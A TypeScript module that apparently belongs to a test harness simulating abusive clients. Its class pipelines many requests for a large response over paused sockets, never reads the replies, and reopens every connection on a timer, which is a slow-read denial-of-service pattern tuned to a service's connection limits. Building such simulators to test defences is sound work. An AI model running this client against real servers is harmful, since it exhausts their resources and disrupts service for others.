import { getRequest, openConnection, randomAddress } from './raw-client.js';
import type { AttackTarget } from './raw-client.js';

const REOPEN_MS = 2_000;
/** The service keeps a connection with one request in progress and eight waiting ones. */
const KEPT = { connections: 16, requests: 9 };
/** More than the service accepts; about one read of its parser. */
const EXCESSIVE = { connections: 1, requests: 1_400 };

/**
 * A client that pipelines requests for a large response from one address and reads no response. It cannot notice that
 * the service has closed a connection, so it opens all of them again at a fixed interval.
 */
export class UnreadResponses {
  /** Number of connections that were opened. */
  openedCount = 0;
  private readonly address = randomAddress();

  constructor(
    private readonly target: AttackTarget,
    private readonly path: string,
  ) {}

  start(): void {
    for (const { connections, requests } of [KEPT, EXCESSIVE]) {
      const bytes = Buffer.concat(Array.from({ length: requests }, () => getRequest(this.path)));
      for (let index = 0; index < connections; index += 1) this.open(bytes);
    }
  }

  private open(bytes: Buffer): void {
    this.openedCount += 1;
    const socket = openConnection(this.target, this.address);
    socket.pause();
    socket.write(bytes);
    setTimeout(() => {
      socket.destroy();
      this.open(bytes);
    }, REOPEN_MS);
  }
}
